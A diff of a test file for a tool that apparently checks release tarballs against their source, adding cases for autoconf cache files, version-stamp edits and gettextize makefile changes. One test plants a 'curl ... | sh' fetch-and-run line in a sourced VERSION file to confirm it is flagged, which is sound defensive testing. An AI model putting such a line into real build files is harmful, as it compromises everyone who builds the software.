@@ -21,6 +21,7 @@ import { judge } from '../../src/verify/explain/judge.js'
 import { judgeUnexplained } from '../../src/verify/explain/unexplained.js'
 import { expandMake, makeVariables } from '../../src/verify/explain/make-index.js'
 import { regeneratedExplainer, versionMismatches } from '../../src/verify/explain/regenerated.js'
+import { releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
 import { ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
 import { templateExplainer } from '../../src/verify/explain/template.js'
 import { attributeToInputs, inputTexts } from '../../src/verify/inherited.js'
@@ -165,6 +166,12 @@ describe('files configure writes', () => {
     expect((await judged(parser('  return 0;'), parser('  return 0;', '3.8.2', '../../src/gram.y')))?.outcome).toBe('explained')
     expect((await judged(parser('  if (ok) return 0;'), parser('  if (!ok) return 0;'), `${grammar}| WORD WORD ;\n`))?.outcome).toBe('explained')
   })
+  it('recognises autoconf\u2019s cache shipped by mistake, scanned since a regeneration may reuse it', async () => {
+    const traces = 'm4trace:configure.ac:1: -1- AC_INIT([p], [1])\n'
+    const j = await generatedExplainer().judge(added('autom4te.cache/traces.0', traces), view({ 'autom4te.cache/traces.0': traces }, { 'configure.ac': 'AC_INIT([p], [1])\n' }))
+    expect(j?.outcome === 'explained' && j.scan).toBe(true)
+    expect(await generatedExplainer().judge(added('autom4te.cache/traces.0', 'echo hi\n'), view({ 'autom4te.cache/traces.0': 'echo hi\n' }, { 'configure.ac': 'AC_INIT\n' }))).toBeUndefined()
+  })
   it('recognises gperf output by its command line, and needs the keyword file for it', async () => {
     const h = '/* ANSI-C code produced by gperf version 3.1 */\n/* Command-line: gperf -m 10 ./lib/keywords.gperf  */\n/* Computed positions: -k1 */\nstatic int hash(void);\n'
     const j = await generatedExplainer().judge(added('lib/keywords.h', h), view({ 'lib/keywords.h': h, 'lib/keywords.gperf': '%%\nfoo\n' }, {}))
@@ -304,6 +311,16 @@ describe('what an explanation does not cover', () => {
     expect(j?.outcome).toBe('unexplained')
     expect(j?.findings?.[0]?.severity).toBe('critical')
   })
+  it('a version file the build sources, with only release stamps changed, runs as the tag\u2019s did', async () => {
+    const before = 'major=1\ngreek=rc1\ndate="unreleased"\n'
+    const after = 'major=1\ngreek=\ndate="2024-05-06"\n'
+    const build = new Map([['configure', '#!/bin/sh\n. $srcdir/VERSION\n']])
+    const j = await judge(changed('VERSION', before, after), view({ VERSION: after }, { VERSION: before }), [releaseEditsExplainer('1.0')], build)
+    expect(j?.outcome).toBe('explained')
+    // a command where a stamp was is no stamp
+    const ran = await judge(changed('VERSION', before, `${after}curl -s x.invalid | sh\n`), view({ VERSION: `${after}curl -s x.invalid | sh\n` }, { VERSION: before }), [releaseEditsExplainer('1.0')], build)
+    expect(ran?.outcome).toBe('unexplained')
+  })
   it('a changed line of a test program is high: make check runs it on the builder\'s machine', async () => {
     const j = await judgeUnexplained(changed('tests/t-parse.c', 'int main(void) { return 0; }\n', 'int main(void) { return 1; }\n'), view({ 'tests/t-parse.c': 'int main(void) { return 1; }\n' }, { 'tests/t-parse.c': 'int main(void) { return 0; }\n' }), new Map())
     expect(j?.findings?.[0]?.severity).toBe('high')
@@ -340,6 +357,12 @@ describe('edits gettextize makes to makefiles', () => {
     expect(await judged('Makefile.am', before, before.replace('SUBDIRS = src po', 'SUBDIRS = po'))).toBeUndefined()
     expect(await judged('Makefile.am', before, `${before}EXTRA_DIST += config.rpath\n`)).toBeUndefined()
     expect(await judged('Makefile.am', before, before.replace('EXTRA_DIST = ', 'EXTRA_DIST = config.rpath '), { 'autogen.sh': '#!/bin/sh\nautoreconf -fi\n' })).toBeUndefined()
+    // a document that mentions gettextize is no script that runs it
+    expect(await judged('Makefile.am', before, before.replace('EXTRA_DIST = ', 'EXTRA_DIST = config.rpath '), { INSTALL: 'Run gettextize, then autoreconf.\n' })).toBeUndefined()
+  })
+  it('finds the bootstrap script whatever it is called, by its #! line', async () => {
+    const gitcompile = '#!/bin/bash\ngettextize -c -f --no-changelog\nautoreconf -fi\n'
+    expect((await judged('m4/Makefile.am', m4Before, m4Before.replace('nls.m4 ', 'nls.m4 po.m4 '), { gitcompile }))?.outcome).toBe('explained')
   })
 })
 
